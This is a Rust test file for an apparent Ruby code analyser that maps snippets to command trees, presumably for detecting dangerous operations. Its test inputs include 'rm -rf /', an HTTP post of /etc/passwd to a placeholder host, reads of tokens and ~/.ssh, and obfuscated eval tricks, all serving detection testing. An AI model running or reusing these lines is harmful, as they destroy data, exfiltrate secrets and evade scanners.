//! Ruby.

use super::check;
use crate::Language;

#[test]
fn calls_with_and_without_parentheses() {
    check(
        Language::Ruby,
        &[
            (r#"system "rm -rf #{dir}""#, r#"(cmd "rb:system" (word "rm -rf " $dir))"#),
            (
                "system('rm', '-rf', '/'); File.delete 'x', 'y'; FileUtils.rm_rf(x)",
                r#"(cmd "rb:system" "rm" "-rf" "/") (cmd "rb:File.delete" "x" "y") (cmd "rb:FileUtils.rm_rf" $x)"#,
            ),
            (
                "`ls #{x}`; %x(rm -rf y); exec 'sh'; spawn({'A' => 'b'}, 'cmd')",
                r#"(cmd "rb:`" (word "ls " $x)) (cmd "rb:`" "rm -rf y") (cmd "rb:exec" "sh") (cmd "rb:spawn" "cmd" "--A" "b")"#,
            ),
            (
                "Kernel.open('|cmd'); IO.popen('cmd') { |io| puts io.read }; open('|ls').read",
                r#"(cmd "rb:open" "|cmd") (cmd "rb:IO.popen" "cmd" (block (set io ?) (cmd "rb:puts" (out (cmd "rb:.read" "--self" $io))))) (cmd "rb:.read" "--self" (out (cmd "rb:open" "|ls")))"#,
            ),
            (
                "Net::HTTP.post(URI('http://x/'), File.read('/etc/passwd')); Net::HTTP.post_form URI('http://x'), 'a' => 'b'",
                r#"(cmd "rb:Net::HTTP.post" "http://x/" (out (cmd "rb:File.read" "/etc/passwd"))) (cmd "rb:Net::HTTP.post_form" "http://x" "--a" "b")"#,
            ),
            (
                "foo.bar 'a', b: 1 do |z| system z end",
                r#"(cmd "rb:.bar" "--self" $foo "a" (block (set z ?) (cmd "rb:system" $z)) "--b" "1")"#,
            ),
            (
                "Process.spawn 'x'; Thread.new { system 'bg' }; at_exit { system 'y' }",
                r#"(cmd "rb:spawn" "x") (cmd "rb:Thread.new" (block (cmd "rb:system" "bg"))) (cmd "rb:at_exit" (block (cmd "rb:system" "y")))"#,
            ),
        ],
    );
}

#[test]
fn functions_by_name() {
    check(
        Language::Ruby,
        &[
            (
                "send(:system, 'id'); Object.new.send('sys' + 'tem', 'id'); Kernel.send('exec', 'x'); method(:system).call('x')",
                r#"(cmd "rb:system" "id") (cmd "rb:Object.new") (cmd "rb:system" "id") (cmd "rb:exec" "x") (cmd "rb:system" "x")"#,
            ),
            (
                "x = :system; public_send x, 'id'; Kernel.method(:system).unbind.bind(self).call('id')",
                r#"(set x "system") (cmd "rb:system" "id") (cmd "rb:system" "id")"#,
            ),
            (
                "Object.const_get(:Kernel).send(:system, 'id'); ['24'].each(&method(:system)); binding.eval('y')",
                r#"(cmd "rb:system" "id") (loop ?item ("24") () (cmd "rb:system" $?item)) (cmd "rb:binding.eval" "--self" (out (cmd "rb:binding")) "y")"#,
            ),
            (
                "eval('cm0='.unpack('m')[0]); eval ['726d'].pack('H*'); system(*%w[rm -rf /])",
                r#"(cmd "rb:eval" (out (cmd "rb:Base64.decode64" "cm0="))) (cmd "rb:eval" "rm") (cmd "rb:system" "rm" "-rf" "/")"#,
            ),
        ],
    );
}

#[test]
fn variables_and_environment() {
    check(
        Language::Ruby,
        &[
            (
                "a = 'rm'; a << ' -rf'; a += ' /'; system(a); x, y = 1, 'two'",
                r#"(set a "rm") (set+ a " -rf") (set+ a " /") (cmd "rb:system" $a) (set x "1") (set y "two")"#,
            ),
            (
                "ENV['X'] = 'y'; puts ENV['HOME'], ENV.fetch('TOKEN'), ENV.to_h; File.join(Dir.home, '.ssh')",
                r#"(set X "y") (cmd "rb:puts" $env:HOME $env:TOKEN $env:*)"#,
            ),
            (
                "Dir.glob('*.o').each { |f| File.delete(f) }; Dir['*.tmp'].each do |f| FileUtils.rm f end",
                r#"(loop f ((glob "*.o")) () (cmd "rb:File.delete" $f)) (loop f ((glob "*.tmp")) () (cmd "rb:FileUtils.rm" $f))"#,
            ),
            (
                r#"%w[a b].each { |x| system "rm #{x}" }; unlink(ARGV[0])"#,
                r#"(loop x ("a" "b") () (cmd "rb:system" (word "rm " $x))) (cmd "rb:unlink" $1)"#,
            ),
        ],
    );
}

#[test]
fn statements() {
    check(
        Language::Ruby,
        &[
            (
                "if x then system('a') elsif y; system('b') else system('c') end",
                r#"(if () (arm (cmd "rb:system" "a")) (arm (cmd "rb:system" "b")) (arm (cmd "rb:system" "c")))"#,
            ),
            (
                "puts 'hi' if File.exist?('x'); system('z') unless a && b; File.write('a', 'b') rescue nil",
                r#"(if ((cmd "rb:File.exist?" "x")) (arm (cmd "rb:puts" "hi"))) (if () (arm (cmd "rb:system" "z"))) (cmd "rb:File.write" "a" "b")"#,
            ),
            (
                "begin; File.unlink('x'); rescue => e; puts e; ensure; system 'q'; end",
                r#"(group (cmd "rb:File.unlink" "x") (if () (arm (cmd "rb:puts" $e))) (cmd "rb:system" "q"))"#,
            ),
            (
                "while true do system('x') end; loop { fork }; 5.times { |i| puts i }",
                r#"(endless () () (cmd "rb:system" "x")) (endless () () (cmd "rb:fork")) (loop i (?) () (cmd "rb:puts" $i))"#,
            ),
            (
                "case x when 1 then system('one') when 2, 3 then system 'two' else system('three') end",
                r#"(if () (arm (cmd "rb:system" "one")) (arm (cmd "rb:system" "two")) (arm (cmd "rb:system" "three")))"#,
            ),
            (
                "def clean(dir) FileUtils.rm_rf(dir) end; clean '/tmp/x'",
                r#"(fn clean (dir) (cmd "rb:FileUtils.rm_rf" $dir)) (cmd "clean" "/tmp/x")"#,
            ),
            ("def go(x) = system(x); go 'y'", r#"(fn go (x) (cmd "rb:system" $x)) (cmd "go" "y")"#),
            (
                "f = lambda { |x| system(x) }; f.call('z'); -> (x) { system x }.('a')",
                r#"(fn f (x) (cmd "rb:system" $x)) (cmd "f" "z") (set x "a") (cmd "rb:system" $x)"#,
            ),
            (
                "class Foo < Bar; def initialize(x); system(x); end; def self.go; system 'g'; end; end; Foo.new('id'); Foo.go",
                r#"(fn Foo.new (x) (cmd "rb:system" $x)) (fn go () (cmd "rb:system" "g")) (cmd "Foo.new" "id") (cmd "go")"#,
            ),
            (
                r##"puts "#{system('10') if x}"; /#{system('12')}/"##,
                r#"(cmd "rb:puts" (out (cmd "rb:system" "10"))) (cmd "rb:system" "12")"#,
            ),
            (
                "c or system('4'); not system('5'); x = if a then system '26' end",
                r#"(if () (arm (cmd "rb:system" "4"))) (cmd "rb:system" "5") (if () (arm (cmd "rb:system" "26"))) (set x ?)"#,
            ),
        ],
    );
}

#[test]
fn texts() {
    check(
        Language::Ruby,
        &[
            (
                "system <<~SH, 'x'\n  rm -rf /\n    a\nSH\nputs 'after'",
                r#"(cmd "rb:system" "rm -rf /\n  a\n" "x") (cmd "rb:puts" "after")"#,
            ),
            (
                "# system 'no'\n=begin\nsystem 'no'\n=end\nsystem 'yes'\n__END__\nsystem 'no'",
                r#"(cmd "rb:system" "yes")"#,
            ),
            (
                "puts %q(it's), %w[a b], :sym, ?c, /x'/; system 'yes'",
                r#"(cmd "rb:puts" "it's" (list "a" "b") "sym" "c" ?) (cmd "rb:system" "yes")"#,
            ),
            ("x = 5; y = x / 2; system 'a' # /\n", r#"(set x "5") (set y (num)) (cmd "rb:system" "a")"#),
        ],
    );
}
